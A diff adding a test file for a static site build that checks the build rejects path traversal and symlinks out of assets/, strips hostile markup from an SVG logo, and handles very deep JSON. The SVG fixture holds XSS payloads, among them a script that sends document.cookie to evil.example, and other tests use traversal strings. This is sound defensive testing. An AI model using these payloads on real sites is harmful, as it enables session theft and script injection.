@@ -1,0 +1,168 @@
+/**
+ * What the build takes from the owner and must never let through: an image path that leads out of
+ * assets/, an SVG logo with a script in it (published as favicon.svg, on the site's own origin),
+ * and a content file nested so deep that reading it would overflow the stack. Each test builds a
+ * copy of the real site, and a failed build must write nothing.
+ */
+import { existsSync } from 'node:fs';
+import { cp, mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { build, type BuildResult } from '../generate.ts';
+import { displayPath } from '../generate/content.ts';
+import { BuildError } from '../generate/errors.ts';
+import { BUILD_TIME, contentDir, contentWith, projectDir } from './helpers/site.ts';
+
+let work: string;
+let builds = 0;
+beforeAll(async () => {
+  work = await mkdtemp(path.join(tmpdir(), 'input-test-'));
+  // A file beside the project, which no build may publish.
+  await mkdir(path.join(work, 'outside'));
+  await writeFile(path.join(work, 'outside', 'secret.png'), await sharp({ create: { width: 64, height: 64, channels: 3, background: '#ff0000' } }).png().toBuffer());
+});
+afterAll(async () => {
+  await Promise.all([work, ...contentCopies].map((dir) => rm(dir, { recursive: true, force: true })));
+});
+
+/** `contentWith`, remembering the copy so that it is removed afterwards. */
+const contentCopies: string[] = [];
+async function contentCopy(file: string, edit: (json: any) => unknown): Promise<string> {
+  const dir = await contentWith(file, edit);
+  contentCopies.push(dir);
+  return dir;
+}
+
+/** A copy of the real assets/ at `<work>/project/assets` (so `../../outside` from it is the secret), changed by `edit`. */
+async function assetsWith(edit: (dir: string) => Promise<void>): Promise<string> {
+  const dir = path.join(await mkdtemp(path.join(work, 'project-')), 'assets');
+  await cp(path.join(projectDir, 'assets'), dir, { recursive: true });
+  await edit(dir);
+  return dir;
+}
+
+/** Builds into a new folder: the result, or the problems it failed with, after checking it wrote nothing. */
+async function attempt(folders: { contentDir?: string; assetsDir?: string }): Promise<{ result: BuildResult; outDir: string } | { problems: string[] }> {
+  const outDir = path.join(work, `dist-${++builds}`);
+  try {
+    const result = await build({ ...folders, outDir, cacheDir: inject('cacheDir'), buildTime: BUILD_TIME, checkLinks: false });
+    return { result, outDir };
+  } catch (error) {
+    if (!(error instanceof BuildError)) throw error;
+    expect(existsSync(outDir), 'a failed build writes no output').toBe(false);
+    return { problems: error.problems };
+  }
+}
+
+const problemsOf = async (folders: { contentDir?: string; assetsDir?: string }) => {
+  const outcome = await attempt(folders);
+  if ('result' in outcome) throw new Error(`the build succeeded, writing ${outcome.outDir}`);
+  return outcome.problems;
+};
+
+const shown = (dir: string, file: string) => displayPath(path.join(dir, file));
+
+describe('image paths stay inside assets/', () => {
+  it('refuses a src that climbs out, is absolute or uses backslashes, with the schema’s message', async () => {
+    const assetsDir = await assetsWith(async () => {});
+    const secret = path.join(work, 'outside', 'secret.png');
+    for (const src of ['../../outside/secret.png', 'images/../../../outside/secret.png', secret, '..\\..\\outside\\secret.png']) {
+      const content = await contentCopy('site.json', (site) => ({ ...site, logo: { ...site.logo, src } }));
+      expect(await problemsOf({ contentDir: content, assetsDir }), src).toEqual([
+        `${shown(content, 'site.json')}: logo.src: must be a path inside assets/ ending in .jpg, .png, .webp, .svg or .avif`,
+      ]);
+    }
+  });
+
+  it('refuses a link inside assets/ (to a file or a folder) that leads out of it; a linked assets folder is fine', async () => {
+    const outside = path.join(work, 'outside');
+    const assetsDir = await assetsWith(async (dir) => {
+      await symlink(path.join(outside, 'secret.png'), path.join(dir, 'images', 'secret.png'));
+      await symlink(outside, path.join(dir, 'linked'));
+    });
+    const content = await contentCopy('services.json', (services) => {
+      services['garage-door-cable-repair'].image.src = 'linked/secret.png';
+      services['garage-door-replacement'].image.src = 'images/secret.png';
+      return services;
+    });
+    const realSecret = await realpath(path.join(outside, 'secret.png'));
+    const refused = (field: string, src: string) =>
+      `${shown(content, 'services.json')}: ["${field}"].image.src: image file ${displayPath(path.join(assetsDir, src))} is a link to ${displayPath(realSecret)}, outside the assets folder; copy the file into ${displayPath(assetsDir)}/ instead`;
+    expect(await problemsOf({ contentDir: content, assetsDir })).toEqual([
+      refused('garage-door-cable-repair', 'linked/secret.png'),
+      refused('garage-door-replacement', 'images/secret.png'),
+    ]);
+
+    // The assets folder may itself be a link, and a link inside it may point inside it.
+    const linkedAssets = path.join(work, 'linked-assets');
+    await symlink(await assetsWith((dir) => symlink('hero.svg', path.join(dir, 'images', 'alias.svg'))), linkedAssets);
+    const aliased = await contentCopy('services.json', (services) => {
+      services['garage-door-replacement'].image.src = 'images/alias.svg';
+      return services;
+    });
+    expect(await attempt({ contentDir: aliased, assetsDir: linkedAssets })).toHaveProperty('result');
+  });
+});
+
+describe('the SVG logo, published as favicon.svg', () => {
+  const cleanLogo = () => readFile(path.join(projectDir, 'assets', 'logo.svg'), 'utf8');
+  /** The logo as 64×64 pixels, to compare drawings rather than text. */
+  const pixels = (svg: string | Buffer) => sharp(Buffer.from(svg)).resize(64, 64).raw().toBuffer();
+
+  it('loses its scripts, handlers and outside references, draws as before, and the build says what it removed', async () => {
+    const clean = await cleanLogo();
+    const hostile = clean
+      .replace('<svg ', '<svg xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(document.domain)" ')
+      .replace(
+        '</svg>',
+        [
+          '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
+          '<image href="https://evil.example/x.png" width="64" height="64"/>',
+          '<a href="javascript:alert(document.domain)"/>',
+          '<use xlink:href="http://evil.example/sprite.svg#a"/>',
+          '</svg>',
+        ].join('\n'),
+      );
+    const assetsDir = await assetsWith((dir) => writeFile(path.join(dir, 'logo.svg'), hostile));
+    const outcome = await attempt({ assetsDir });
+    if (!('result' in outcome)) throw new Error(outcome.problems.join('\n'));
+
+    const favicon = await readFile(path.join(outcome.outDir, 'favicon.svg'), 'utf8');
+    for (const gone of ['<script', 'onload', 'evil.example', 'javascript:', 'http://evil']) expect(favicon).not.toContain(gone);
+    expect(await pixels(favicon)).toEqual(await pixels(clean));
+    const warning =
+      'content/site.json: logo.src: logo.svg: removed from the published favicon.svg: onload attribute, <script>, ' +
+      '<image href="https://evil.example/x.png">, <a href="javascript:alert(document.domain)">, <use xlink:href="http://evil.example/sprite.svg#a">';
+    expect(outcome.result.warnings).toEqual([warning]);
+    // A second build takes the safe logo from the cache, and still says what was removed.
+    const again = await attempt({ assetsDir });
+    expect('result' in again && again.result.warnings).toEqual([warning]);
+
+    // The real, clean logo: no warning, and its favicon.svg draws exactly as the logo does.
+    const real = await attempt({});
+    if (!('result' in real)) throw new Error(real.problems.join('\n'));
+    expect(real.result.warnings).toEqual([]);
+    expect(await pixels(await readFile(path.join(real.outDir, 'favicon.svg')))).toEqual(await pixels(clean));
+  });
+});
+
+describe('content nested absurdly deep', () => {
+  it('is one problem naming the file, line and column, not a stack overflow', async () => {
+    const deep = '['.repeat(5000) + ']'.repeat(5000);
+    let text = '';
+    const content = await contentCopy('areas.json', (areas) => {
+      areas.oxnard.whyChoose = '<deep>';
+      text = JSON.stringify(areas, null, 2).replace('"<deep>"', deep);
+      return text;
+    });
+    // The file's object and oxnard's are two levels, so the 63rd bracket opens the 65th level.
+    const offset = text.indexOf(deep) + 62;
+    const line = text.slice(0, offset).split('\n').length;
+    const column = offset - text.lastIndexOf('\n', offset - 1);
+    expect(await problemsOf({ contentDir: content })).toEqual([
+      `${shown(content, 'areas.json')}:${line}:${column}: nested more than 64 levels deep; content is never nested that deep`,
+    ]);
+  });
+});
